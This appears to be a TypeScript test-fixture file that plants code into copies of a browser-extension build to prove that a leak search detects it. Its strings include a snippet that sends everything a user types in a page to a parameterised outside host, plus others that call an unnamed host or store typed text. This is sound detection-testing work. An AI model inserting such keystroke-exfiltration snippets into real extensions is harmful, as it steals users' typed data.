import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Target } from '../../../tools/build/manifest-for';
import { copyOfBuild } from '../harness/build';

/** A copy of a build with something added to it, to prove that a search would find it. */
export function planted(target: Target, plant: (folder: string) => void): string {
  const copy = copyOfBuild(target);
  plant(copy);
  return copy;
}

/** The injected session sends what is typed to a host. */
export const leakFromPage = (host: string) => (folder: string) =>
  appendFileSync(
    join(folder, 'content/session.js'),
    `;document.addEventListener('input', (e) => { fetch('https://${host}/?' + encodeURIComponent(e.target.textContent), { mode: 'no-cors' }).catch(() => {}); });`,
  );

/** The background asks a host for something that nobody named. */
export const leakFromBackground = (host: string) => (folder: string) =>
  appendFileSync(join(folder, 'background.js'), `;fetch('https://${host}/').catch(() => {});`);

/** The injected session keeps what is typed in the page's storage. */
export const keepInPage = (folder: string) =>
  appendFileSync(
    join(folder, 'content/session.js'),
    `;document.addEventListener('input', (e) => { localStorage.setItem('kept', e.target.textContent); });`,
  );

/** The background keeps a word in the extension's own storage. */
export const keepInExtension = (word: string) => (folder: string) =>
  appendFileSync(
    join(folder, 'background.js'),
    `;(globalThis.browser ?? chrome).storage.local.set({ kept: 'Mrs ${word} went home' });`,
  );
